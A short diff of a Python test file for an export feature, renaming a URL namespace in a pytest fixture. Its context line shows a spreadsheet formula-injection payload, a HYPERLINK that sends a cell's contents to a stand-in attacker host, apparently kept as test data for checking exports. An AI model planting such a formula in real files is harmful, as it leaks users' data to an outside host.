@@ -20,7 +20,7 @@ FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Tide")'
 @pytest.fixture
 def export(client, house, manager):
     def ask(kind, **query):
-        return client.get(reverse(f"bookings:desk_{kind}", args=[house.party.slug]), {"from": "2028-03-04"} | query)
+        return client.get(reverse(f"holds:desk_{kind}", args=[house.party.slug]), {"from": "2028-03-04"} | query)
 
     return ask
 
